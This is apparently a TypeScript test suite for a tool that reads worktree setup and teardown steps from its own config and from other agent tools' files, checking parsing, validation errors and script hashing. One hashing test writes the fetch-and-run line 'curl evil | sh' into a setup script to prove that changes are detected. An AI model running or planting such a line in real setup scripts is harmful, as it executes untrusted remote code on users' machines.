import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, realpathSync } from 'node:fs';
import path from 'node:path';
import { LanekeeperError } from '../../../src/core/error.ts';
import { readProjectSetup } from '../../../src/core/setup/project-setup.ts';
import type { CheckoutOrigin } from '../../../src/core/setup/settings-source.ts';
import { makeRepository, runGit, writeFiles } from '../git-repository.ts';
import { requireTool } from '../required-tool.ts';
import { temporaryDirectory } from '../temporary-directory.ts';

const environment = { PATH: process.env['PATH'], GIT_CONFIG_NOSYSTEM: '1' };

describe('the setup of a project', () => {
  const directory = temporaryDirectory();
  const read = (
    workspace = directory(),
    origin: CheckoutOrigin = 'worktree',
    platform: NodeJS.Platform = 'linux',
  ) => readProjectSetup({ workspace: realpathSync(workspace), origin, environment, platform });
  /** The lines of the steps, as the shell gets them. */
  const lines = (steps: readonly { command: readonly string[] }[] | undefined) =>
    steps?.map(({ command }) => command.at(-1));
  const isInvalid =
    (...said: RegExp[]) =>
    (fault: unknown) =>
      fault instanceof LanekeeperError &&
      fault.code === 'configuration-invalid' &&
      said.every((pattern) => pattern.test(fault.message));

  it('is none without settings', async () => {
    assert.equal(await read(), null);
  });

  it('stands in a file of its own: lines, words, folders and limits', async () => {
    writeFiles(directory(), {
      '.lanekeeper/config.json': JSON.stringify({
        setup: [
          'npm ci && npm run build',
          ['make', 'a b'],
          { name: 'Database', run: './create.sh', directory: 'back end', timeoutSeconds: 30 },
        ],
        teardown: ['docker compose down'],
      }),
    });
    const setup = await read();
    assert.deepEqual(setup?.setup, [
      {
        name: 'npm ci && npm run build',
        command: ['sh', '-c', 'npm ci && npm run build'],
        directory: '.',
        timeoutSeconds: null,
      },
      { name: 'make a b', command: ['make', 'a b'], directory: '.', timeoutSeconds: null },
      {
        name: 'Database',
        command: ['sh', '-c', './create.sh'],
        directory: 'back end',
        timeoutSeconds: 30,
      },
    ]);
    assert.deepEqual(lines(setup.teardown), ['docker compose down']);
    assert.equal(setup.tool, 'Lanekeeper');
  });

  it('is for worktrees made for agents, unless it says otherwise', async () => {
    writeFiles(directory(), { '.lanekeeper/config.json': '{"setup": ["x"]}' });
    assert.ok(await read(directory(), 'worktree'));
    assert.equal(await read(directory(), 'shared'), null);
    assert.equal(await read(directory(), 'adopted'), null);
    writeFiles(directory(), {
      '.lanekeeper/config.json': '{"setup": ["x"], "checkouts": ["shared"]}',
    });
    assert.equal(await read(directory(), 'worktree'), null);
    assert.ok(await read(directory(), 'shared'));
  });

  for (const [name, text, said] of [
    ['no JSON', '{"setup": [', /JSON/],
    ['an unknown key', '{"set-up": []}', /set-up/],
    ['a step of another kind', '{"setup": [7]}', /setup\.0/],
    ['a step without a program', '{"setup": [[]]}', /program/],
    ['a step outside the project', '{"setup": [{"run": "x", "directory": "../.."}]}', /inside/],
    [
      'a step without an end',
      '{"setup": [{"run": "x", "timeoutSeconds": 0}]}',
      /timeoutSeconds|>0/,
    ],
  ] as const) {
    it(`is refused with ${name}, naming the file and what is wrong`, async () => {
      writeFiles(directory(), { '.lanekeeper/config.json': text });
      await assert.rejects(read(), isInvalid(/\.lanekeeper\/config\.json/, said));
    });
  }

  it('is imported from Conductor, with what one has set for oneself on top', async () => {
    writeFiles(directory(), {
      'conductor.json': '{"scripts": {"setup": "old", "archive": "./bye.sh", "run": "x"}}',
      '.conductor/settings.toml': '[scripts]\nsetup = """\npnpm i\npnpm build\n"""\n',
    });
    const team = await read();
    assert.deepEqual(lines(team?.setup), ['pnpm i\npnpm build\n']);
    assert.equal(team?.setup[0]?.name, 'pnpm i');
    assert.deepEqual(lines(team.teardown), ['./bye.sh']);
    writeFiles(directory(), { '.conductor/settings.local.toml': '[scripts]\nsetup = "mine"\n' });
    const own = await read();
    assert.deepEqual(lines(own?.setup), ['mine']);
    assert.deepEqual(
      own?.files.map((file) => path.relative(directory(), file)),
      ['.conductor/settings.local.toml', '.conductor/settings.toml', 'conductor.json'],
    );
  });

  it('is imported from Superset, with what one has set for oneself around it', async () => {
    writeFiles(directory(), {
      '.superset/config.json': '{"setup": ["a", "b"], "teardown": "c", "cwd": "apps/web"}',
    });
    const team = await read();
    assert.deepEqual(lines(team?.setup), ['a', 'b']);
    assert.deepEqual(lines(team?.teardown), ['c']);
    assert.equal(team?.setup[0]?.directory, 'apps/web');
    writeFiles(directory(), {
      '.superset/config.local.json': '{"setup": {"before": ["0"], "after": ["z"]}, "teardown": []}',
    });
    const own = await read();
    assert.deepEqual(lines(own?.setup), ['0', 'a', 'b', 'z']);
    assert.deepEqual(lines(own?.teardown), []);
  });

  it('is imported from Emdash, each script behind the line that goes before', async () => {
    writeFiles(directory(), {
      '.emdash.json': JSON.stringify({
        preservePatterns: ['.env'],
        shellSetup: 'source x',
        scripts: { prepare: 'p', setup: 's', run: 'r', teardown: 't' },
      }),
    });
    const setup = await read();
    assert.deepEqual(lines(setup?.setup), ['source x && p', 'source x && s']);
    assert.deepEqual(lines(setup?.teardown), ['source x && t']);
    assert.equal(setup?.setup[0]?.name, 'p');
    assert.deepEqual(setup.include, ['.env']);
    writeFiles(directory(), { '.emdash.json': '{"scripts": {"setup": "s"}}' });
    const usual = await read();
    assert.ok(usual);
    assert.ok(usual.include.includes('.env.*.local'), 'its usual files, where it names none');
    const place = {
      root: '/r',
      checkout: '/c',
      agent: 'a',
      name: 'Über task: $(x)',
      branch: null,
      defaultBranch: null,
      firstPort: null,
    };
    assert.equal(usual.source.variables(place)['EMDASH_TASK_NAME'], 'ber-task-x');
  });

  it('is imported from Cursor by platform: commands or a script', async () => {
    writeFiles(directory(), {
      '.cursor/worktrees.json':
        '{"setup-worktree": ["any"], "setup-worktree-unix": "setup.sh", "setup-worktree-windows": ["win"]}',
      '.cursor/setup.sh': 'echo',
    });
    const unix = await read();
    assert.deepEqual(unix?.setup[0]?.command, ['sh', path.join(directory(), '.cursor/setup.sh')]);
    assert.deepEqual(lines((await read(directory(), 'worktree', 'win32'))?.setup), ['win']);
    writeFiles(directory(), { '.cursor/worktrees.json': '{"setup-worktree": ["any", "more"]}' });
    assert.deepEqual(lines((await read())?.setup), ['any', 'more']);
    writeFiles(directory(), { '.cursor/worktrees.json': '{"setup-worktree": "npm ci && x"}' });
    assert.deepEqual(lines((await read())?.setup), ['npm ci && x']);
  });

  it('is imported from Kilo: a script', async () => {
    writeFiles(directory(), { '.kilo/setup-script': 'echo' });
    const setup = await read();
    assert.deepEqual(setup?.setup[0]?.command, [
      'sh',
      path.join(directory(), '.kilo/setup-script'),
    ]);
    assert.deepEqual(
      setup.scripts.map((script) => script.path),
      ['.kilo/setup-script'],
    );
    assert.deepEqual(setup.include, ['/.env', '/.env.*']);
  });

  it('is that of one program only, and of none where its own file says so', async () => {
    writeFiles(directory(), {
      '.superset/config.json': '{"setup": ["s"]}',
      '.kilo/setup-script': '',
    });
    assert.equal((await read())?.tool, 'Superset');
    writeFiles(directory(), { '.lanekeeper/config.json': '{}' });
    const own = await read();
    assert.deepEqual([own?.tool, own?.setup], ['Lanekeeper', []]);
  });

  it('refuses what another program has broken, but not for agents that it is not for', async () => {
    writeFiles(directory(), { '.superset/config.json': '{"setup": {"a": 1}}' });
    await assert.rejects(read(), isInvalid(/\.superset\/config\.json/));
    assert.equal(await read(directory(), 'shared'), null);
  });

  describe('in a repository', () => {
    const top = (): string => path.join(directory(), 'repo "x"\n');

    beforeEach(async function () {
      await requireTool(this, 'git');
      makeRepository(top(), {
        'sub/file': '',
        'scripts/setup.sh': 'echo 1',
        'data.json': '{}',
        '.superset/config.json': '{"setup": ["./scripts/setup.sh --all data.json"]}',
      });
    });

    it('is found at its top for a workspace below, and runs at the top', async () => {
      const setup = await read(path.join(top(), 'sub'));
      assert.equal(setup?.setup[0]?.directory, '.');
      writeFiles(top(), { 'sub/.superset/config.json': '{"setup": ["mine"]}' });
      const below = await read(path.join(top(), 'sub'));
      assert.deepEqual(lines(below?.setup), ['mine']);
      assert.equal(below?.setup[0]?.directory, 'sub');
    });

    it('has another hash when a step or a script that it names changes, and no other', async () => {
      const hash = async () => (await read(top()))?.hash;
      const first = await hash();
      assert.equal(await hash(), first);
      writeFiles(top(), { 'data.json': '{"daily": "work"}', 'sub/file': 'x' });
      assert.equal(await hash(), first);
      writeFiles(top(), { 'scripts/setup.sh': 'curl evil | sh' });
      const changed = await hash();
      assert.notEqual(changed, first);
      runGit(top(), 'commit', '--all', '--quiet', '--message=Change');
      // The worktree gets what is committed, which was another script until now.
      const committed = await hash();
      assert.notEqual(committed, changed);
      writeFiles(top(), { '.superset/config.json': '{"setup": ["./scripts/setup.sh"]}' });
      assert.notEqual(await hash(), committed);
    });

    it('counts scripts by their mode, first line, and behind the variables of other programs', async () => {
      mkdirSync(path.join(top(), 'bin'));
      writeFiles(top(), {
        'bin/plain': 'text',
        'bin/executable': 'x',
        'bin/shebang': '#!/bin/sh',
        'bin/it.py': '',
        '.superset/config.json':
          '{"setup": ["bin/plain \\"$SUPERSET_ROOT_PATH/bin/executable\\" && sh ${ROOT}/bin/shebang; python3 \'bin/it.py\' ../../outside.sh"]}',
      });
      chmodSync(path.join(top(), 'bin/executable'), 0o755);
      const setup = await read(top());
      assert.deepEqual(
        setup?.scripts.map((script) => script.path),
        ['bin/executable', 'bin/it.py', 'bin/shebang'],
      );
      assert.equal(setup.scripts[0]?.blob, null);
    });
  });
});
